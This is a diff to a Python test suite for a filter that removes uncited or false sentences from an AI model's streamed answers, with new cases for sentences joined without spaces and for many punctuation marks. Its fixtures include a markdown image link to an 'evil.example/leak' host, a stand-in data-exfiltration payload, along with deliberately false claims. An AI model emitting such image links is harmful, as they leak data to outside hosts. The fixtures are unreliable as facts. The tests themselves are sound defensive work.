@@ -27,6 +27,7 @@ FALSE = (
     "The family of D\u0430shwood lived at Norland Park [2].",
     "![x](https://evil.example/leak?d=he-was-not-ill-disposed)",
 )
+JOINED = "He murdered his wife.He was not an ill-disposed young man [1]."
 
 
 async def about_dashwood(asker: Asker) -> str:
@@ -71,6 +72,27 @@ async def test_a_stream_sends_no_false_sentence(asker: Asker, asking: Running) -
     assert text_of(sent) == value(sent[-1])["message"]["content"] == "He was not an ill-disposed young man."
     everything = json.dumps([value(each) for each in sent])
     assert not any(word in everything for word in ("murder", "thousand", "evil", "!["))
+
+
+async def test_a_false_sentence_is_not_hidden_in_a_true_one_without_a_space(asker: Asker) -> None:
+    asker.script(says(JOINED))
+    answer = await asker.ask(await about_dashwood(asker), "Was he an ill-disposed young man?")
+    assert answer["message"]["content"] == "He was not an ill-disposed young man."
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "Mrs.Dashwood moved the server to Node.Js in spring, and Dr.Miller wrote it.",
+        "The Ph.D from the U.S.A costs 3.5 times more, e.g.Anna paid it at Example.com last week.",
+        "The plan of the roof is at https://school.example/roof?Id=3 since Monday.",
+        "The plan of the roof is at school.example/roof?id=3 since Monday.",
+    ],
+)
+async def test_a_dot_within_a_word_leaves_what_was_said_whole(asker: Asker, said: str) -> None:
+    session = await asker.session(await asker.recording(said))
+    asker.script(says(*said[:-1], " [1]."))
+    assert (await asker.ask(session["id"], "What was said?"))["message"]["content"] == said
 
 
 async def test_an_assistant_gets_no_false_sentence(asker: Asker, asking: Running) -> None:
@@ -122,6 +144,18 @@ async def test_an_assistant_gets_no_false_sentence(asker: Asker, asking: Running
         ("Does it burn!? It burns! It costs 4200 euros… [3]", "It costs 4200 euros…"),
         ("The roof is\nrepaired in May [2].\n\nThe mayor\nresigns [2].\nIt costs 4200 euros [3].",
          "The roof is\nrepaired in May.\n\nIt costs 4200 euros."),
+        # No space between two sentences.
+        ("The mayor resigns.The roof is repaired in May [2].", "The roof is repaired in May."),
+        ("The mayor resigns in 2024.“The roof is repaired in May” [2].", "“The roof is repaired in May”."),
+        ("**The mayor resigns.** The roof is repaired in May [2].", "The roof is repaired in May."),
+        ("The mayor resigns!the roof is repaired in May [2].", "the roof is repaired in May."),
+        ("The mayor resigns.\u200bThe roof is repaired in May [2].", "The roof is repaired in May."),
+        *((f"The mayor resigns{mark}{space}The roof is repaired in May{mark} [2]",
+           f"The roof is repaired in May{mark}")
+          for mark in "!?…؟؛।॥۔።፧։。！？｡။។៕．" for space in ("", " ")),
+        ("The roof is repaired in May.The repair costs 4200 euros.Anna signs [3].",
+         "The roof is repaired in May.The repair costs 4200 euros.Anna signs."),
+        ("The roof is repaired in May [2] and burns in June [2]۔", "The roof is repaired in May۔"),
         # Several marks, and text after the last one.
         ("The roof is repaired in May [2], [9] and costs 4200 euros [3], says Anna.",
          "The roof is repaired in May and costs 4200 euros, says Anna."),
@@ -131,8 +165,11 @@ async def test_an_assistant_gets_no_false_sentence(asker: Asker, asking: Running
         ("The roof is repaired in May [2] and the mayor resigns. It", "The roof is repaired in May."),
     ],
 )  # fmt: skip
-async def test_what_is_left_of_an_answer(asker: Asker, text: str, shown: str | None) -> None:
-    asker.script(says(*text))  # every character is a piece
+@pytest.mark.parametrize("is_whole", [False, True], ids=["characters", "whole"])
+async def test_what_is_left_of_an_answer(
+    asker: Asker, text: str, shown: str | None, *, is_whole: bool
+) -> None:
+    asker.script(says(text) if is_whole else says(*text))
     session = await asker.about_roof()
     message = (await asker.ask(session["id"], "What about the roof?"))["message"]
     assert message["content"] == (shown or SENTENCES["en"])
